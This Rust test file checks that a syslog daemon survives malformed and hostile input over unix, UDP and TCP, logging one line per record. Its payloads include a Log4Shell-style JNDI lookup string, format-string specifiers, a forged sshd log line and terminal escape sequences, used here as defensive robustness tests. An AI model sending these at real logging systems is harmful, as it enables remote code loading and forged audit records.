//! Input made to break us. Whatever comes: alive, one line for each record, everything accounted for.

use std::io::Write as _;

use serde_json::Value;

use crate::support::{Counters, Daemon, corpus};

/// Everything goes to one file, as it came: no folding.
const CONFIG: &str = "*.*;syslog.none\t{dir}/all\n";

/// Our own inputs, for where the corpus is missing.
fn datagrams() -> Vec<Vec<u8>> {
    let mut datagrams: Vec<Vec<u8>> = [
        &b"<"[..],
        b"<>",
        b"<1",
        b"<192>over",
        b"<99999999999999999999>overflow",
        b"<-1>negative",
        b"<13>1",
        b"<13>1 ",
        b"<13>1 -",
        b"<13>1 2003-13-45T99:99:99.999999999Z - - - - x",
        b"<13>1 - - - - [",
        b"<13>1 - - - - [x@1 a=\"",
        b"<13>1 - - - - [x@1 a=\"b\\\"] unfinished",
        b"<13>1 - - - - []",
        b"<13>Feb 31 25:61:61 x",
        b"<13>Nov 22 11:00:00",
        b"<13>Nov 22 11:00:00 ",
        b"<13>%s%n%x%d",
        b"<13>${jndi:ldap://192.0.2.1/a}",
        b"<13>two\nlines",
        b"<13>forged\n<0>Nov 22 11:00:00 host sshd[1]: accepted",
        b"<13>\x1b]0;title\x07\x1b[2J",
        b"<13>\0\0\0x",
        b"\xff\xfe\xfd",
        b"\x80",
        b"<13>\xe2\x80\xae evil",
        b"<13>a\x0b\x0c\x0e\x0f\x7fb",
    ]
    .iter()
    .map(|octets| octets.to_vec())
    .collect();
    for octet in 0..=255 {
        datagrams.push(vec![b'<', b'1', b'3', b'>', b'x', octet, b'y']);
        datagrams.push(vec![b'x', octet]);
    }
    for long in [4096, 8192, 20_000, 60_000] {
        datagrams.push(vec![b'['; long]);
        datagrams.push([&b"<13>1 - - - - "[..], &b"[x@1 a=\"b\"]".repeat(long / 11)].concat());
        datagrams.push([&b"<13>"[..], &vec![b'a'; long], b": tag"].concat());
        datagrams.push([&b"<13>1 "[..], &vec![b'9'; long]].concat());
        datagrams.push([&b"<"[..], &vec![b'1'; long], b">x"].concat());
    }
    // Whatever was cut in the middle.
    let whole =
        b"<165>1 2003-10-11T22:14:15.003Z host app 8710 ID47 [x@1 a=\"\\\"b\"] \xef\xbb\xbftext";
    datagrams.extend((1..whole.len()).map(|length| whole[..length].to_vec()));
    let whole = b"<34>Oct 11 22:14:15 host su[12]: text";
    datagrams.extend((1..whole.len()).map(|length| whole[..length].to_vec()));
    datagrams
}

/// Records that an input took, and those of them that were not rejected.
fn taken(counters: &Counters, input: &str) -> (u64, u64) {
    let number = |value: &Value| value.as_u64().expect("a number");
    let input = counters.input(input);
    (
        number(&input["received"]),
        number(&input["routed"]) + number(&input["unmatched"]),
    )
}

/// Sends each datagram over both transports, and expects one line for each that is not empty.
fn survives(datagrams: &[Vec<u8>]) {
    let daemon = Daemon::with(&["-cc", "-k"], CONFIG);
    let mut lines = 0;
    for (number, octets) in datagrams.iter().enumerate() {
        daemon.unix(octets);
        daemon.udp(octets);
        let stripped = octets.iter().rposition(|octet| !b"\n\r\0".contains(octet));
        // syslog.* is our own, and kept out of the file.
        let is_syslog = (40..48).any(|pri| octets.starts_with(format!("<{pri}>").as_bytes()));
        lines += if stripped.is_some() && !is_syslog {
            2
        } else {
            0
        };
        if number % 50 == 49 {
            daemon.file("all").wait_for_lines(lines);
        }
    }
    daemon.file("all").wait_for_lines(lines);
    let counters = daemon.quiet();
    let sent = datagrams.len() as u64;
    assert_eq!(taken(&counters, "log.sock").0, sent);
    assert_eq!(taken(&counters, "udp://").0, sent);
    assert_eq!(
        daemon.file("all").lines().len(),
        lines,
        "one line for each record"
    );
    assert_eq!(counters.output("/all")["written"], lines);
    daemon.finish();
}

#[test]
fn our_own_hostile_datagrams() {
    survives(&datagrams());
}

#[test]
fn every_hostile_datagram_of_the_corpus() {
    let Some(entries) = corpus::entries("malformed.jsonl") else {
        return;
    };
    let is_datagram = |entry: &&Value| matches!(entry["transport"].as_str(), Some("udp" | "unix"));
    let datagrams: Vec<_> = entries
        .iter()
        .filter(is_datagram)
        .map(corpus::octets)
        .collect();
    assert!(datagrams.len() > 300, "{}", datagrams.len());
    // A unix datagram is smaller than the default send buffer allows.
    let (small, large): (Vec<_>, Vec<_>) =
        datagrams.into_iter().partition(|one| one.len() < 65_000);
    assert!(large.len() < 3, "{}", large.len());
    survives(&small);
}

#[test]
fn every_hostile_stream_of_the_corpus() {
    let Some(entries) = corpus::entries("malformed.jsonl") else {
        return;
    };
    let daemon = Daemon::with(&["-cc"], CONFIG);
    let (mut records, mut streams) = (0, 0);
    for entry in entries.iter().filter(|entry| entry["transport"] == "tcp") {
        let name = entry["name"].as_str().expect("a name");
        let expect = entry["expect"].as_str().expect("an expectation");
        let before = daemon.quiet();
        // A peer that we close the connection of may not get rid of everything.
        let mut stream = daemon.tcp();
        let sent = stream.write_all(&corpus::octets(entry));
        crate::support::close(stream);
        daemon.tcp_stream("<13>good: next\n");
        let after = daemon.quiet();
        let (was, is) = (taken(&before, "tcp://"), taken(&after, "tcp://"));
        let (received, kept) = (is.0 - was.0 - 1, is.1 - was.1 - 1);
        let allowed = |count: u64| expect.split(['=', '|']).any(|one| one == count.to_string());
        if expect.starts_with("records=") {
            assert!(allowed(kept), "{name}: {kept} records, expected {expect}");
            assert!(sent.is_ok(), "{name}: {sent:?}");
        } else {
            // `framing/lf-digit` and the like: a count cannot be told from text that begins with digits.
            assert!(
                received >= 1 || expect.contains("records"),
                "{name}: nothing was counted"
            );
        }
        records += usize::try_from(kept + 1).expect("few");
        streams += 1;
    }
    assert!(streams > 50, "{streams}");
    assert_eq!(daemon.file("all").wait_for_lines(records).len(), records);
    daemon.finish();
}

#[test]
fn a_stream_of_one_endless_line_is_one_record_and_flat_in_memory() {
    let daemon = Daemon::with(&["-cc"], CONFIG);
    let mut stream = daemon.tcp();
    let piece = vec![b'x'; 1 << 20];
    for _ in 0..64 {
        stream.write_all(&piece).expect("it is read");
    }
    stream.write_all(b"\n<13>good: next\n").expect("it is read");
    daemon.file("all").wait_for("good: next");
    let lines = daemon.file("all").lines();
    assert_eq!(lines.len(), 2);
    assert!(
        lines[0].ends_with(&format!("…[+{}]", 64 * (1 << 20) - 8192)),
        "{}",
        &lines[0][8190..]
    );
    daemon.finish();
}

#[test]
fn hundreds_of_connections_that_say_nothing_hold_nobody() {
    let daemon = Daemon::start(CONFIG);
    let mut silent: Vec<_> = (0..200).map(|_| daemon.tcp()).collect();
    for stream in silent.iter_mut().take(100) {
        stream.write_all(b"9").expect("it takes it");
    }
    daemon.tcp_stream("<13>good: served\n");
    daemon.file("all").wait_for("good: served");
    drop(silent);
    daemon.finish();
}
